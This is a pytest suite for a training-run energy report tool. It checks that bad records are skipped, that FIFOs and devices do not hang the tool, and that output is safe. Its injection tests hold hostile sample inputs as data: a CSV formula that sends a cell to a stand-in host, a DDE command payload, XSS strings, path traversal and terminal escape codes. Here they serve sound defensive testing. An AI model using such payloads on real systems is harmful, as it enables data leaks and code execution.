"""A folder of records may hold anything: bad records are skipped with their reason and the good runs kept (#15.4);
FIFOs and devices never block or exhaust memory (#15.5); nothing from a record can inject into CSV, Markdown or a
terminal (#15.6); outputs that cannot be written are one clear line, not a traceback (#15.8)."""

from __future__ import annotations

import copy
import csv
import io
import json
import os
import resource
import subprocess
import sys
from pathlib import Path

import pytest

from green_callbacks.report.command import run_report
from green_callbacks.report.runs import load_runs

ROOT = Path(__file__).resolve().parents[1]
RECORDS = Path(__file__).parent / "data" / "records"
SINGLE = RECORDS / "single" / "green-run-single.json"
GOOD_ID = "single00"


def _single() -> dict:
    return json.loads(SINGLE.read_text())


def _set(path: str, value):
    """A mutation that sets the dotted ``path`` (``epochs.0.time_s``) of a copy of the good record."""
    def mutate(data: dict) -> dict:
        data = copy.deepcopy(data)
        *parents, last = path.split(".")
        target = data
        for key in parents:
            target = target[int(key)] if isinstance(target, list) else target[key]
        if isinstance(target, list):
            target[int(last)] = value
        else:
            target[last] = value
        return data
    return mutate


WRONG = [  # (id, mutation, what the reason names)
    ("hyperparameters-list", _set("hyperparameters", ["lr", 0.1]), "hyperparameters"),
    ("components-list", _set("components", []), "components"),
    ("carbon-string", _set("carbon", "DE"), "carbon"),
    ("epochs-of-numbers", _set("epochs", [1]), "epochs[0]"),
    ("epoch-time-null", _set("epochs.0.time_s", None), "epochs[0].time_s"),
    ("totals-time-string", _set("totals.time_s", "6"), "totals.time_s"),
    ("totals-list", _set("totals", [6.0]), "totals"),
    ("status-number", _set("status", 7), "status"),
    ("status-unknown", _set("status", "exploded"), "status"),
    ("run-id-number", _set("run_id", 5), "run_id"),
    ("framework-list", _set("framework", []), "framework"),
    ("error-object", _set("error", {"a": 1}), "error"),
    ("convergence-string", _set("convergence", "val_loss"), "convergence"),
    ("mode-unknown", _set("convergence.mode", "up"), "convergence.mode"),
    ("best-value-string", _set("convergence.best.value", "0.5"), "convergence.best.value"),
    ("best-epoch-negative", _set("convergence.best.epoch", -1), "convergence.best.epoch"),
    ("component-energy-list", _set("epochs.0.component_energy_j", []), "component_energy_j"),
    ("component-energy-string", _set("epochs.0.component_energy_j.gpu", "600"), "component_energy_j.gpu"),
    ("metrics-list", _set("epochs.0.metrics", []), "epochs[0].metrics"),
    ("metric-string", _set("epochs.0.metrics.val_loss", "low"), "metrics.val_loss"),
    ("metric-boolean", _set("epochs.0.metrics.val_loss", True), "metrics.val_loss"),
    ("methods-string", _set("methods.gpu", "nvml"), "methods.gpu"),
    ("lost-list", _set("lost", ["gpu"]), "lost"),
    ("pue-below-one", _set("carbon.pue", 0.5), "carbon.pue"),
    ("year-string", _set("carbon.year", "2023"), "carbon.year"),
    ("devices-string", _set("components.gpu.devices", "H100"), "components.gpu.devices"),
    ("missing-components-string", _set("epochs.0.missing_components", "gpu"), "missing_components"),
    ("partial-epoch-list", _set("partial_epoch", [1]), "partial_epoch"),
    ("world-size-zero", _set("world_size", 0), "world_size"),
    ("negative-emissions", _set("totals.emissions_gco2e", -0.5), "totals.emissions_gco2e"),
    ("negative-epoch-energy", _set("epochs.1.energy_j", -640.0), "epochs[1].energy_j"),
    ("negative-intensity", _set("carbon.intensity_gco2e_per_kwh", -56.0), "carbon.intensity_gco2e_per_kwh"),
    ("huge-energy", _set("epochs.1.component_energy_j.gpu", 1.7e308), "out of range"),
    ("huge-metric", _set("epochs.1.metrics.val_loss", 1.7e308), "out of range"),
    ("epochs-log-path", _set("epochs_log", "../../etc/green-run-x.epochs.jsonl"), "epochs_log"),
]

RAW = [  # (id, file text, what the reason says): variants json.dumps cannot write
    ("400-digit-integer", SINGLE.read_text().replace('"energy_j": 1920.0', '"energy_j": ' + "9" * 400, 1),
     "out of range"),
    ("deep-nesting", SINGLE.read_text().replace('"hyperparameters": {', '"hyperparameters": {"deep": '
                                                + "[" * 200_000 + "]" * 200_000 + ",", 1), "nested"),
    ("nan-literal", SINGLE.read_text().replace('"energy_j": 1920.0', '"energy_j": NaN', 1), "not a readable"),
    ("infinity-literal", SINGLE.read_text().replace('"time_s": 6.0', '"time_s": Infinity', 1), "not a readable"),
    ("not-utf8", b'{"schema": "green-callbacks/run/1", "run_id": "\xff\xfe"}', "not a readable"),
    ("a-list", "[1, 2, 3]", "JSON object"),
]


def _folder_with(tmp_path: Path, bad_name: str, bad: bytes | str) -> Path:
    folder = tmp_path / "runs"
    folder.mkdir()
    (folder / "green-run-good.json").write_text(SINGLE.read_text())
    target = folder / bad_name
    target.write_bytes(bad if isinstance(bad, bytes) else bad.encode())
    return folder


def _check_skipped_and_kept(folder: Path, reason_part: str, capsys) -> None:
    loaded = load_runs([folder])
    assert [r.label for r in loaded.runs] == [GOOD_ID]
    assert len(loaded.skipped) == 1 and reason_part in loaded.skipped[0][1], loaded.skipped
    for fmt in ("text", "markdown", "csv", "json"):
        assert run_report(paths=[str(folder)], format=fmt) == 0
        captured = capsys.readouterr()
        assert "green-run-bad.json" in captured.err and reason_part in captured.err
        assert GOOD_ID in captured.out


@pytest.mark.parametrize(("name", "mutate", "reason"), WRONG, ids=[w[0] for w in WRONG])
def test_a_wrong_typed_field_skips_that_record_only(tmp_path, capsys, name, mutate, reason) -> None:
    folder = _folder_with(tmp_path, "green-run-bad.json", json.dumps(mutate(_single())))
    _check_skipped_and_kept(folder, reason, capsys)


@pytest.mark.parametrize(("name", "text", "reason"), RAW, ids=[r[0] for r in RAW])
def test_malformed_json_skips_that_record_only(tmp_path, capsys, name, text, reason) -> None:
    folder = _folder_with(tmp_path, "green-run-bad.json", text)
    _check_skipped_and_kept(folder, reason, capsys)


def test_html_with_plots_survives_extreme_values(tmp_path) -> None:
    """1.7e308 broke the HTML plots: such a record is skipped; metrics as large as allowed still plot."""
    pytest.importorskip("matplotlib")
    folder = _folder_with(tmp_path, "green-run-bad.json",
                          json.dumps(_set("epochs.1.component_energy_j.gpu", 1.7e308)(_single())))
    large = _set("epochs.1.metrics.val_loss", 1e100)(_set("run_id", "large" + "0" * 27)(_single()))
    (folder / "green-run-large.json").write_text(json.dumps(large))
    out = tmp_path / "r.html"
    assert run_report(paths=[str(folder)], format="html", out=str(out)) == 0
    page = out.read_text()
    assert page.count("data:image/png;base64,") >= 4 and "green-run-bad.json" in page


# ------------------------------------------------------------------------------------ hangs and memory (#15.5)
def _report_subprocess(folder: Path, *extra: str, env: dict | None = None) -> subprocess.CompletedProcess:
    def limit_memory() -> None:  # a reader that reads /dev/zero to the end fails fast, not after eating the RAM
        resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))

    return subprocess.run([sys.executable, "-m", "green_callbacks.cli", "report", str(folder), *extra],
                          capture_output=True, text=True, timeout=120, preexec_fn=limit_memory, cwd=ROOT,
                          env={**os.environ, "PYTHONPATH": str(ROOT), **(env or {})})


def test_a_fifo_named_like_a_record_does_not_block(tmp_path) -> None:
    folder = _folder_with(tmp_path, "green-run-notes.txt", "")
    os.mkfifo(folder / "green-run-fifo.json")
    result = _report_subprocess(folder)  # before the fix: blocked forever (TimeoutExpired here)
    assert result.returncode == 0 and GOOD_ID in result.stdout
    assert "green-run-fifo.json: not a regular file (a FIFO)" in result.stderr


def test_a_link_to_dev_zero_is_not_read(tmp_path) -> None:
    folder = _folder_with(tmp_path, "green-run-notes.txt", "")
    (folder / "green-run-zero.json").symlink_to("/dev/zero")
    result = _report_subprocess(folder)  # before the fix: read until MemoryError
    assert result.returncode == 0 and GOOD_ID in result.stdout and "MemoryError" not in result.stderr
    assert "green-run-zero.json: not a regular file (a character device)" in result.stderr


def test_a_record_over_the_size_cap_is_skipped_and_the_cap_can_be_raised(tmp_path) -> None:
    folder = _folder_with(tmp_path, "green-run-big.json", json.dumps({**_single(), "pad": "x" * (3 << 20)}))
    result = _report_subprocess(folder, "--max-record-mb", "2")
    assert result.returncode == 0 and "green-run-big.json: larger than the 2 MiB read at most" in result.stderr
    assert "--max-record-mb" in result.stderr
    assert "skipped" not in _report_subprocess(folder, "--max-record-mb", "8").stderr
    env = _report_subprocess(folder, env={"GREEN_CALLBACKS_MAX_RECORD_MB": "1"})
    assert "larger than the 1 MiB read at most" in env.stderr
    bad = _report_subprocess(folder, "--max-record-mb", "0")
    assert bad.returncode == 2 and "--max-record-mb must be a size in MiB above 0" in bad.stderr


# ------------------------------------------------------------------------------------ injection (#15.6)
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_csv_cells_cannot_start_a_formula(tmp_path, monkeypatch, capsys) -> None:
    data = _single()
    data.update(run_id=FORMULA, framework="@SUM(1+1)", error="+cmd|' /C calc'!A0", status="failed")
    data["hyperparameters"] = {"lr": -0.5}
    data["convergence"]["best"]["value"] = -0.25  # a negative metric (a log-likelihood) stays a number
    folder = tmp_path / "=1+2"
    folder.mkdir()
    (folder / "green-run-x.json").write_text(json.dumps(data))
    (folder / "green-run-tab.json").write_text(json.dumps({**_single(), "run_id": "\t=1+2", "framework": "\r-3+4"}))
    monkeypatch.chdir(tmp_path)
    assert run_report(paths=["=1+2"], format="csv") == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    for row in rows:
        for cell in row.values():
            if cell.startswith(dangerous):
                float(cell)  # only a plain number may start with - or +; anything else raises here
    evil = next(r for r in rows if "HYPERLINK" in r["run_id"])
    assert evil["run_id"] == "'" + FORMULA and evil["framework"] == "'@SUM(1+1)"
    assert evil["path"].startswith("'=1+2") and evil["best_value"] == "-0.25"
    tab = next(r for r in rows if "=1+2" in r["run_id"])
    assert tab["run_id"] == "'\t=1+2"


def _hostile() -> dict:
    data = _single()
    data.update(run_id="<script>alert(1)</script>", error='<img src=x onerror="alert(2)">', status="failed")
    data["hyperparameters"] = {"note": "[click me](javascript:alert(3))", "pic": "![x](http://evil.example/p.png)",
                               "auto": "<javascript:alert(4)>", "tick": "``` <b>bold</b>"}
    data["carbon"]["source"] = "\x1b]0;pwned\x07\x1b[31mred\x1b[0m \x9b31m"
    return data


def test_markdown_escapes_html_links_and_images(tmp_path) -> None:
    markdown_it = pytest.importorskip("markdown_it")
    (tmp_path / "green-run-x.json").write_text(json.dumps(_hostile()))
    out = tmp_path / "r.md"
    assert run_report(paths=[str(tmp_path)], format="markdown", out=str(out)) == 0
    text = out.read_text()
    page = markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table").render(text)
    assert "<script" not in page and "<img" not in page and "<b>" not in page
    assert 'href="javascript:' not in page and "evil.example/p.png\"" not in page
    assert "Run &lt;script&gt; (failed)" in page and "&lt;img src=x onerror=" in page  # shown as text
    assert "[click me](javascript:alert(3))" in page.replace("\\", "")


def test_terminal_output_has_no_control_characters(tmp_path, capsys) -> None:
    (tmp_path / "green-run-x.json").write_text(json.dumps(_hostile()))
    (tmp_path / "green-run-\x1b[2Jbad.json").write_text("{")  # skipped: its name goes to stderr
    for fmt in ("text", "markdown", "csv", "html", "json"):  # html: before #28.4 the ESC and BEL went through
        assert run_report(paths=[str(tmp_path)], format=fmt) == 0
        captured = capsys.readouterr()
        for stream in (captured.out, captured.err):
            assert not any((ord(c) < 32 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F for c in stream), fmt
        assert "]0;pwned" in captured.out and "[31mred" in captured.out  # the text stays, the ESC goes


# ------------------------------------------------------------------------------------ clear CLI errors (#15.8)
@pytest.mark.parametrize("option", ["out", "plots", "badges"])
def test_an_unwritable_output_is_one_clear_line(tmp_path, capsys, option) -> None:
    if option == "plots":
        pytest.importorskip("matplotlib")
    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder")
    place = str(blocker / "sub" / ("report.md" if option == "out" else "dir"))
    code = run_report(paths=[str(SINGLE)], format="markdown", **{option: place})
    err = capsys.readouterr().err
    assert code == 2
    lines = [line for line in err.splitlines() if line.startswith("green-callbacks report:")]
    assert len(lines) == 1 and "Traceback" not in err
    assert f"give --{option} a writable place" in lines[0] and "cannot write the" in lines[0]


@pytest.mark.slow  # a subprocess that imports Lightning: 13-24 s
def test_demo_with_an_unknown_country_is_one_clear_line() -> None:
    pytest.importorskip("lightning")
    result = subprocess.run([sys.executable, "-m", "green_callbacks.cli", "demo", "--country", "XX"],
                            capture_output=True, text=True, timeout=300, cwd=ROOT,
                            env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert result.stderr.startswith("green-callbacks demo: --country: No packaged carbon intensity for "
                                    "country='XX'")
    assert len(result.stderr.strip().splitlines()) == 1
